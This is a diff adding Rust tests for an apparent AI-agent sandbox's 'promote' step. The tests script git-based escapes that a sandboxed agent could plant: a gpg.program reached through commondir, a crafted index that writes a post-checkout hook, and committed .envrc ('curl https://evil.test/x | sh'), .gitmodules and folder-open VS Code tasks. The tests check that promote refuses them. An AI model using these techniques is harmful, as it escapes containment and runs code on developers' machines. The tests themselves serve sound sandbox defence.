@@ -27,6 +27,8 @@ use anyhow::{Context, bail, ensure};
 const OWNER: u32 = 1000;
 /// Debian's git, bound into the sandbox and run on the host.
 const GIT: &str = "/usr/bin/git";
+/// A newer git (2.47, built by setup): the host-side checks run with both.
+const NEW_GIT: &str = "/usr/local/bin/git";
 /// Rootful podman's runtime state root (the runtime's default as root).
 const PODMAN_ROOT: &str = "/run/agent-sandbox";
 
@@ -91,6 +93,12 @@ impl Host {
 
     /// `git ARGS` in `repo` as the checkout's owner, as the developer would run it.
     fn git(&self, repo: &Path, args: &[&str]) -> anyhow::Result<Output> {
+        self.git_with(GIT, repo, args)
+    }
+
+    /// [`Host::git`] with the git binary `git`.
+    fn git_with(&self, git: &str, repo: &Path, args: &[&str]) -> anyhow::Result<Output> {
+        harness::require_file(git)?;
         harness::run(
             Command::new("setpriv")
                 .args([
@@ -102,7 +110,7 @@ impl Host {
                     "env",
                 ])
                 .arg(format!("HOME={}", self.path("home").display()))
-                .arg(GIT)
+                .arg(git)
                 .arg("-C")
                 .arg(repo)
                 .args(args),
@@ -311,6 +319,18 @@ impl Agent {
     }
 }
 
+/// The quarantine ref a promotion wrote for the agent's main.
+fn quarantine_ref(out: &Output) -> anyhow::Result<String> {
+    out.stdout
+        .lines()
+        .find_map(|l| {
+            l.strip_prefix("wrote ")
+                .filter(|r| r.starts_with("refs/agent-sandbox/") && r.ends_with("/heads/main"))
+        })
+        .map(str::to_owned)
+        .with_context(|| format!("no quarantine ref written\n{out}"))
+}
+
 /// Requires `promote` to refuse (exit 1, nothing applied) and to name each of `paths`.
 fn refused(out: &Output, paths: &[&str]) -> anyhow::Result<()> {
     ensure!(
@@ -358,11 +378,18 @@ fn promotes_edits_creates_deletes_and_a_commit(via: Via) -> anyhow::Result<()> {
     );
     for line in [
         "/src/calc.py (file 0644",
-        "/.git/refs/heads/main",
         "delete  /docs/notes",
+        "history: 1 new commits, 1 refs",
+        " agent: fix add\n",
+        "refs/heads/main)",
     ] {
         ensure!(dry.stdout.contains(line), "plan lacks {line:?}\n{dry}");
     }
+    // No file below .git is copied: the history comes back as commits.
+    ensure!(
+        !dry.stdout.contains(" /.git/"),
+        "the plan copies .git files\n{dry}"
+    );
     ensure!(
         snapshot(&target)? == before,
         "the dry run changed the target"
@@ -393,21 +420,54 @@ fn promotes_edits_creates_deletes_and_a_commit(via: Via) -> anyhow::Result<()> {
         "a refused promotion changed the target"
     );
 
+    // --advance refuses a target whose branch moved since the sandbox started, changing
+    // nothing.
+    let moved = host.copy(&host.ws, "moved")?;
+    sh(&format!(
+        "cd {m} && {GIT} -c safe.directory=* -c user.name=dev -c user.email=dev@host commit -q --allow-empty -m dev",
+        m = moved.display()
+    ))?;
+    let moved_before = snapshot(&moved)?;
+    let refused_ff =
+        agent.runtime(&["promote", "--to", &moved.display().to_string(), "--advance"])?;
+    ensure!(
+        refused_ff.code == Some(1)
+            && refused_ff.stderr.contains("cannot advance refs/heads/main")
+            && refused_ff.stderr.contains("nothing was changed"),
+        "promote --advance did not refuse a moved branch\n{refused_ff}"
+    );
+    ensure!(
+        snapshot(&moved)? == moved_before,
+        "a refused --advance changed the target"
+    );
+
     let out = agent.runtime(&[
         "promote",
         "--to",
         &target.display().to_string(),
         "--digest",
         &digest,
+        "--advance",
     ])?;
     ensure!(out.success(), "promote failed\n{out}");
-    let log = host.git(&target, &["log", "--format=%s"])?;
-    ensure!(
-        log.success() && log.stdout.starts_with("agent: fix add\ninitial"),
-        "the agent's commit is not in the host checkout\n{log}"
-    );
-    let fsck = host.git(&target, &["fsck", "--strict"])?;
-    ensure!(fsck.success(), "git fsck failed\n{fsck}");
+    let quarantine = quarantine_ref(&out)?;
+    for git in [GIT, NEW_GIT] {
+        let log = host.git_with(git, &target, &["log", "--format=%s", &quarantine])?;
+        ensure!(
+            log.success() && log.stdout.starts_with("agent: fix add\ninitial"),
+            "{git}: the agent's commit is not under {quarantine}\n{log}"
+        );
+        let log = host.git_with(git, &target, &["log", "--format=%s"])?;
+        ensure!(
+            log.success() && log.stdout.starts_with("agent: fix add\ninitial"),
+            "{git}: --advance did not fast-forward main\n{log}"
+        );
+        let fsck = host.git_with(git, &target, &["fsck", "--strict"])?;
+        ensure!(fsck.success(), "{git}: git fsck failed\n{fsck}");
+    }
+    // The index still holds the old commit until the developer updates it (docs).
+    let reset = host.git(&target, &["reset", "-q"])?;
+    ensure!(reset.success(), "git reset failed\n{reset}");
     let status = host.git(&target, &["status", "--porcelain"])?;
     ensure!(
         status.success() && status.stdout == "?? scratch.txt\n",
@@ -765,4 +825,244 @@ fn ctr_special_files_control_characters_and_a_spoofed_manifest_are_refused() -> 
         bail!("audit verify failed");
     }
     Ok(())
+}
+
+/// Requires `promote` to refuse the history (exit 1, nothing applied), naming each of `paths`
+/// in a commit's tree.
+fn history_refused(out: &Output, paths: &[&str]) -> anyhow::Result<()> {
+    ensure!(
+        out.code == Some(1) && out.stderr.contains("nothing was applied"),
+        "promote did not refuse\n{out}"
+    );
+    for p in paths {
+        ensure!(
+            out.stdout
+                .lines()
+                .any(|l| l.starts_with("refused commit ") && l.contains(&format!(" /{p}: "))),
+            "promote did not refuse /{p} in a commit\n{out}"
+        );
+    }
+    Ok(())
+}
+
+/// Attack (a): a repository outside `.git`. `src/HEAD` and `src/commondir` -> `../tools/c`,
+/// which holds `objects/`, `refs/` and a config setting `gpg.program` and
+/// `log.showSignature`, its main a commit with a signature header: the developer's `git log`
+/// in `src/` runs the agent's program (git 2.39 and 2.47 alike).
+fn repository_outside_git(via: Via) -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(via, &host.ws)?;
+    let marker = host.marker("gpg-program-ran");
+    let naive = host.path("naive");
+    agent.exec(&format!(
+        "G='{GIT} -c safe.directory=*'
+         python3 - <<'PY'
+import os, subprocess
+g = ['{GIT}', '-c', 'safe.directory=*']
+c = subprocess.run(g + ['cat-file', 'commit', 'HEAD'], capture_output=True, check=True).stdout
+head, msg = c.split(b'\\n\\n', 1)
+sig = b'gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n =abcd\\n -----END PGP SIGNATURE-----'
+oid = subprocess.run(g + ['hash-object', '-t', 'commit', '-w', '--stdin'],
+                     input=head + b'\\n' + sig + b'\\n\\n' + msg,
+                     capture_output=True, check=True).stdout.strip()
+os.makedirs('tools/c/refs/heads')
+open('tools/c/refs/heads/main', 'wb').write(oid + b'\\n')
+PY
+         cp -R .git/objects tools/c/objects
+         printf '#!/bin/sh\\ntouch {m}\\n' > tools/c/gpg.sh && chmod +x tools/c/gpg.sh
+         printf '[log]\\n\\tshowSignature = true\\n[gpg]\\n\\tprogram = {n}/tools/c/gpg.sh\\n' > tools/c/config
+         echo 'ref: refs/heads/main' > src/HEAD
+         echo ../tools/c > src/commondir",
+        m = marker.display(),
+        n = naive.display(),
+    ))?;
+
+    let naive = host.copy(&host.ws, "naive")?;
+    agent.naive_cp(&naive, true)?;
+    for git in [GIT, NEW_GIT] {
+        host.git_with(git, &naive.join("src"), &["log", "--oneline"])?;
+        ensure!(
+            marker.exists(),
+            "naive: {git} log in src/ did not run the planted gpg.program"
+        );
+        fs::remove_file(&marker)?;
+    }
+
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let out = agent.promote(&target, false)?;
+    refused(&out, &["src"])?;
+    ensure!(
+        out.stdout.contains("makes a directory a git directory"),
+        "{out}"
+    );
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+    for git in [GIT, NEW_GIT] {
+        host.git_with(git, &target.join("src"), &["log", "--oneline"])?;
+        ensure!(
+            !marker.exists(),
+            "{git}: the planted gpg.program ran after promote"
+        );
+    }
+    Ok(())
+}
+
+#[test]
+fn podman_a_repository_outside_git_through_commondir_runs_code_on_host_git_log_after_a_naive_copy_and_promote_refuses_it()
+-> anyhow::Result<()> {
+    repository_outside_git(Via::Podman)
+}
+
+#[test]
+fn ctr_a_repository_outside_git_through_commondir_runs_code_on_host_git_log_after_a_naive_copy_and_promote_refuses_it()
+-> anyhow::Result<()> {
+    repository_outside_git(Via::Ctr)
+}
+
+/// Writes a git index (version 2) at argv[1] with entries `MODE,SHA,NAME` (argv[2:]): git
+/// refuses to stage `.git/...` itself, so the agent crafts the file.
+const MAKE_INDEX: &str = r#"
+import hashlib, struct, sys
+entries = sorted((n.encode(), int(m, 8), bytes.fromhex(s))
+                 for m, s, n in (a.split(',', 2) for a in sys.argv[2:]))
+out = b'DIRC' + struct.pack('>II', 2, len(entries))
+for name, mode, sha in entries:
+    e = struct.pack('>10I', 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + sha
+    e += struct.pack('>H', min(len(name), 0xfff)) + name
+    out += e + b'\0' * (8 - len(e) % 8)
+out += hashlib.sha1(out).digest()
+open(sys.argv[1], 'wb').write(out)
+"#;
+
+/// Attack (b): a carried `.git/index` whose entry `.git/hooks/post-checkout` (its blob in
+/// `.git/objects`) the developer's `git checkout -- .` writes and then runs.
+fn carried_index(via: Via) -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(via, &host.ws)?;
+    let marker = host.marker("post-checkout-ran");
+    agent.exec(&format!(
+        "G='{GIT} -c safe.directory=*'
+         B=$(printf '#!/bin/sh\\ntouch {m}\\n' | $G hash-object -w --stdin)
+         R=$($G rev-parse HEAD:README.md)
+         python3 -c \"$MAKE_INDEX\" .git/index 100644,$R,README.md 100755,$B,.git/hooks/post-checkout",
+        m = marker.display(),
+    ).replace("$MAKE_INDEX", &MAKE_INDEX.replace('"', "\\\"")))?;
+
+    for git in [GIT, NEW_GIT] {
+        let naive = host.copy(&host.ws, &format!("naive-{}", git.len()))?;
+        agent.naive_cp(&naive, true)?;
+        host.git_with(git, &naive, &["checkout", "--", "."])?;
+        ensure!(
+            marker.exists(),
+            "naive: {git} checkout -- . did not write and run the planted hook"
+        );
+        fs::remove_file(&marker)?;
+    }
+
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let out = agent.promote(&target, false)?;
+    ensure!(out.success(), "promote failed\n{out}");
+    ensure!(
+        out.stdout.contains("entries below .git are not copied"),
+        "{out}"
+    );
+    ensure!(
+        snapshot(&target)? == before,
+        "promote wrote below .git (or elsewhere)"
+    );
+    for git in [GIT, NEW_GIT] {
+        host.git_with(git, &target, &["checkout", "--", "."])?;
+        host.git_with(git, &target, &["restore", "."])?;
+        ensure!(
+            !marker.exists(),
+            "{git}: the planted hook ran after promote"
+        );
+        ensure!(!target.join(".git/hooks/post-checkout").exists());
+    }
+    Ok(())
+}
+
+#[test]
+fn podman_a_carried_git_index_writes_and_runs_a_hook_after_a_naive_copy_and_promote_never_carries_it()
+-> anyhow::Result<()> {
+    carried_index(Via::Podman)
+}
+
+#[test]
+fn ctr_a_carried_git_index_writes_and_runs_a_hook_after_a_naive_copy_and_promote_never_carries_it()
+-> anyhow::Result<()> {
+    carried_index(Via::Ctr)
+}
+
+/// Attack (c): protected names travel inside git objects. The agent commits `.envrc`,
+/// `.gitmodules`, `.vscode/tasks.json` and a symlink out of the tree, then removes them
+/// from the working tree: only objects and a ref change. After a naive copy the developer's
+/// `git reset --hard` writes them all; promote refuses the history and writes nothing.
+fn protected_names_in_commits(via: Via) -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(via, &host.ws)?;
+    agent.exec(&format!(
+        "G='{GIT} -c safe.directory=* -c user.name=agent -c user.email=agent@sandbox'
+         echo 'curl https://evil.test/x | sh' > .envrc
+         printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ../evil\\n' > .gitmodules
+         mkdir .vscode && echo '{{\"tasks\":[{{\"command\":\"id\",\"runOptions\":{{\"runOn\":\"folderOpen\"}}}}]}}' > .vscode/tasks.json
+         ln -s ../outside out
+         $G add -A && $G commit -qm 'tidy up'
+         rm -rf .envrc .gitmodules .vscode out"
+    ))?;
+
+    for git in [GIT, NEW_GIT] {
+        let naive = host.copy(&host.ws, &format!("naive-{}", git.len()))?;
+        agent.naive_cp(&naive, true)?;
+        let reset = host.git_with(git, &naive, &["reset", "-q", "--hard"])?;
+        ensure!(reset.success(), "{reset}");
+        for p in [".envrc", ".gitmodules", ".vscode/tasks.json"] {
+            ensure!(
+                naive.join(p).is_file(),
+                "naive: {git} reset --hard did not write {p}"
+            );
+        }
+        ensure!(
+            fs::read_link(naive.join("out"))? == Path::new("../outside"),
+            "naive: {git} reset --hard did not write the symlink out of the tree"
+        );
+    }
+
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let dry = agent.promote(&target, true)?;
+    history_refused(&dry, &[".envrc", ".gitmodules", ".vscode", "out"])?;
+    let out = agent.promote(&target, false)?;
+    history_refused(&out, &[".envrc", ".gitmodules", ".vscode", "out"])?;
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+    for git in [GIT, NEW_GIT] {
+        let reset = host.git_with(git, &target, &["reset", "-q", "--hard"])?;
+        ensure!(reset.success(), "{reset}");
+        for p in [".envrc", ".gitmodules", ".vscode", "out"] {
+            ensure!(
+                fs::symlink_metadata(target.join(p)).is_err(),
+                "{git}: {p} is in the target after promote"
+            );
+        }
+    }
+    Ok(())
+}
+
+#[test]
+fn podman_protected_names_inside_commits_land_after_a_naive_copy_and_promote_refuses_the_history()
+-> anyhow::Result<()> {
+    protected_names_in_commits(Via::Podman)
+}
+
+#[test]
+fn ctr_protected_names_inside_commits_land_after_a_naive_copy_and_promote_refuses_the_history()
+-> anyhow::Result<()> {
+    protected_names_in_commits(Via::Ctr)
 }
